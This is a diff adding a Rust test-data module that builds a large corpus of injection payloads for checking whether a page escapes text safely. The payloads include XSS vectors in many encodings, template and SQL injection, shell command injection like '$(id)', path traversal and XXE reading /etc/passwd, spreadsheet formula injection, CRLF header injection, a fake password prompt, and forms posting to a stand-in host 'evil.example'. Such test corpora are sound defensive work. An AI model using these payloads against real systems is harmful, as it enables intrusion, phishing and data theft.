@@ -1,0 +1,251 @@
+//! Text that becomes something else in a careless page: the public list of naughty strings, and markup of our own.
+
+/// All of them, each once.
+pub fn all() -> Vec<String> {
+    let mut all: Vec<String> = naughty_strings::BLNS.iter().map(|it| (*it).to_owned()).collect();
+    all.extend(elements());
+    all.extend(escapes());
+    all.extend(encoded());
+    all.extend(LINES.lines().filter(|it| !it.is_empty()).map(str::to_owned));
+    all.extend(unseen());
+    all.sort();
+    all.dedup();
+    all
+}
+
+/// Every tag with every event.
+fn elements() -> Vec<String> {
+    let mut all = Vec::new();
+    for tag in TAGS.split(' ') {
+        for event in EVENTS.split(' ') {
+            all.push(format!("<{tag} {event}=alert(1)>"));
+            all.push(format!("\"><{tag} {event}=\"alert(1)\" x=\""));
+            all.push(format!("'><{}/{}='alert(1)'", tag.to_uppercase(), event.to_uppercase()));
+        }
+    }
+    all
+}
+
+/// Ways out of where text stands, each before something that would show.
+fn escapes() -> Vec<String> {
+    let out = |before: &&str| SHOWING.iter().map(|it| [before, *it].concat()).collect::<Vec<_>>();
+    WAYS_OUT.iter().flat_map(out).collect()
+}
+
+/// What shows, written as a careless decoder would undo it.
+fn encoded() -> Vec<String> {
+    let each = |text: &str, how: fn(char) -> String| text.chars().map(how).collect::<String>();
+    let mut all = Vec::new();
+    for text in SHOWING {
+        all.push(each(text, |it| format!("&#{};", u32::from(it))));
+        all.push(each(text, |it| format!("&#{:07}", u32::from(it))));
+        all.push(each(text, |it| format!("&#x{:x};", u32::from(it))));
+        all.push(each(text, |it| format!("%{:02x}", u32::from(it))));
+        all.push(each(text, |it| format!("%25{:02X}", u32::from(it))));
+        all.push(each(text, |it| format!("\\u{:04x}", u32::from(it))));
+        all.push(each(text, |it| format!("\\x{:02x}", u32::from(it))));
+        all.push(each(text, |it| format!("\\{:o}", u32::from(it))));
+        all.push(each(text, |it| char::from_u32(u32::from(it) + 0xfee0).unwrap_or(it).to_string()));
+        all.push(text.replace('<', "&lt;").replace('>', "&gt;"));
+        all.push(text.replace('<', "&amp;lt;"));
+        all.push(text.replace('<', "+ADw-").replace('>', "+AD4-"));
+        all.push(text.replace('<', "<\0"));
+        all.push(text.replace('<', "< "));
+        all.push(text.replace('<', "<<"));
+        all.push(text.replace("alert", "al\u{ad}ert"));
+        all.push(text.replace(' ', "\u{c}"));
+        all.push(text.replace(' ', "\n"));
+        all.push(text.replace("script", "scr\tipt").replace("on", "o\u{200b}n"));
+    }
+    all
+}
+
+/// Characters nobody sees, that turn what follows, or that end a line somewhere.
+fn unseen() -> impl Iterator<Item = String> {
+    let marks = "\0\u{1}\u{7}\u{8}\t\n\u{b}\u{c}\r\u{1b}\u{7f}\u{80}\u{85}\u{9f}\u{a0}\u{ad}\u{34f}\u{61c}\u{115f}\u{1680}\u{180e}\u{2000}\
+                 \u{200b}\u{200c}\u{200d}\u{200e}\u{200f}\u{2028}\u{2029}\u{202a}\u{202b}\u{202c}\u{202d}\u{202e}\u{202f}\u{205f}\u{2060}\
+                 \u{2066}\u{2067}\u{2068}\u{2069}\u{206a}\u{3000}\u{3164}\u{fe0f}\u{feff}\u{ffa0}\u{fff9}\u{fffc}\u{fffd}\u{e0001}\u{e0041}\u{10ffff}";
+    let ways =
+        |it: char| [format!("invoice{it}fdp.exe"), format!("{it}<b>{it}"), format!("{it}"), format!("a{it}{it}{it} ")];
+    marks.chars().flat_map(ways)
+}
+
+const TAGS: &str = "img svg body iframe video audio input details marquee object embed form a button select textarea math style link \
+                    script x-y bdi template";
+
+const EVENTS: &str =
+    "onerror onload onclick onfocus onmouseover ontoggle onbegin onanimationstart onpointerdown onbeforetoggle";
+
+const WAYS_OUT: &[&str] = &[
+    "",
+    "\"",
+    "'",
+    "`",
+    ">",
+    "\">",
+    "'>",
+    "-->",
+    "--!>",
+    "<!--",
+    "<![CDATA[",
+    "]]>",
+    "?>",
+    "%>",
+    "*/",
+    "//",
+    "\\\"",
+    "\\'",
+    "\\",
+    "&quot;>",
+    "&#34;>",
+    "</bdi>",
+    "</p></li></ul>",
+    "</code>",
+    "</a>",
+    "</button>",
+    "</title>",
+    "</textarea>",
+    "</style>",
+    "</script>",
+    "</noscript>",
+    "</template>",
+    "</select>",
+    "</option>",
+    "</svg>",
+    "</math>",
+    "</table>",
+    "</body></html>",
+    "<plaintext>",
+    "\0",
+    "\u{feff}",
+];
+
+/// What a person would see happen.
+const SHOWING: &[&str] = &[
+    "<b>bold</b>",
+    "<img src=x onerror=alert(1)>",
+    "<svg onload=alert(1)>",
+    "<script>alert(1)</script>",
+    "<iframe srcdoc=x></iframe>",
+    "<style>*{display:none}</style>",
+    "<base href=//evil.example>",
+    "<meta http-equiv=refresh content=0;url=//evil.example>",
+    "<form action=//evil.example><input name=key></form>",
+    "<a href=javascript:alert(1)>key</a>",
+    "<details open ontoggle=alert(1)>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
+];
+
+const LINES: &str = r##"
+{{7*7}}
+{{constructor.constructor('alert(1)')()}}
+{{$on.constructor('alert(1)')()}}
+{% raw %}{{7*7}}
+${7*7}
+${alert(1)}
+`${alert(1)}`
+#{7*7}
+#{alert(1)}
+*{7*7}
+@{7*7}
+~{7*7}
+@(7*7)
+<%= 7*7 %>
+<% alert(1) %>
+<?php phpinfo() ?>
+<?= 7*7 ?>
+[[7*7]]
+[[${7*7}]]
+{7*7}
+{alert(1)}
+{title}
+{0}
+{}
+{:?}
+{{}}
+%s%s%s%n
+%d %x %p
+$1 $& $` $' $$
+\1 \0 \g<0>
+{"__proto__":{"x":1}}
+__proto__
+constructor
+toString
+hasOwnProperty
+javascript:alert(1)
+JaVaScRiPt:alert(1)
+ javascript:alert(1)
+java	script:alert(1)
+javascript&colon;alert(1)
+javascript&#58;alert(1)
+javascript://%0aalert(1)
+javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+alert(1)//'>
+vbscript:msgbox(1)
+data:text/html,<script>alert(1)</script>
+data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==
+blob:https://evil.example/x
+file:///etc/passwd
+https://evil.example/?x=<script>
+//evil.example
+\\evil.example\share
+=1+1
+=cmd|' /C calc'!A0
++1+1
+-1+1
+@SUM(1)
+=HYPERLINK("https://evil.example","key")
+'; DROP TABLE items;--
+" OR "1"="1
+*)(uid=*))(|(uid=*
+$(id)
+`id`
+; id
+| id
+&& id
+../../../../etc/passwd
+..%2f..%2f
+%00
+%0d%0aSet-Cookie: a=b
+a\r\nSet-Cookie: a=b
+jaVasCript:/*-/*`/*\`/*'/*"/**/(/* */onerror=alert(1) )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\x3csVg/<sVg/oNloAd=alert(1)//>\x3e
+"onclick=alert(1)//<button ' onclick=alert(1)//> */ alert(1)//
+'">><marquee><img src=x onerror=confirm(1)></marquee>"></plaintext\></|\><plaintext/onmouseover=prompt(1)>
+<svg><animate onbegin=alert(1) attributeName=x dur=1s>
+<svg><set attributeName=href to=javascript:alert(1)>
+<svg><foreignObject><body onload=alert(1)>
+<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><image href=1 onerror=alert(1) /></svg>#x">
+<svg><style><img src=x onerror=alert(1)></style>
+<noscript><p title="</noscript><img src=x onerror=alert(1)>">
+<template shadowrootmode=open><script>alert(1)</script></template>
+<div style="background:url(javascript:alert(1))">
+<div style="position:fixed;inset:0">Your session has ended. Type your password.</div>
+<p id=page-heading tabindex=-1>
+<img name=getElementById>
+<form id=body><input name=children>
+<a id=location><a id=location name=href href=javascript:alert(1)>
+<link rel=stylesheet href=//evil.example/x.css>
+<link rel=import href=//evil.example>
+<object data=javascript:alert(1)>
+<embed src=javascript:alert(1)>
+<isindex action=javascript:alert(1) type=image>
+<video><source onerror=alert(1)>
+<input autofocus onfocus=alert(1)>
+<keygen autofocus onfocus=alert(1)>
+<x contenteditable onblur=alert(1)>lose focus
+<a/href="j&Tab;a&Tab;v&Tab;asc&NewLine;ri&Tab;pt&colon;alert&lpar;1&rpar;">x
+<button popovertarget=x>x</button><xss onbeforetoggle=alert(1) popover id=x>
+<xss onscrollsnapchange=alert(1) style=display:block;overflow:auto>
+<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>
+&lt;script&gt;alert(1)&lt;/script&gt;
+&copy &notit; &amp;amp; &#0; &#x110000; &#xD800;
+&nbsp;&zwnj;&lrm;&rlm;&ZeroWidthSpace;
+𝒔𝒄𝒓𝒊𝒑𝒕 ｓｃｒｉｐｔ ⓢⓒⓡⓘⓟⓣ
+＜script＞alert(1)＜/script＞
+‹script›alert(1)‹/script›
+﹤img src=x onerror=alert(1)﹥
+Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘!
+﷽﷽﷽﷽﷽
+👩‍👩‍👧‍👦🏳️‍🌈🇺🇳
+ﬁ ﬀ Ⅷ ℡ İ ı ß ẞ ſ K Å
+אבג abc ابت
+"##;
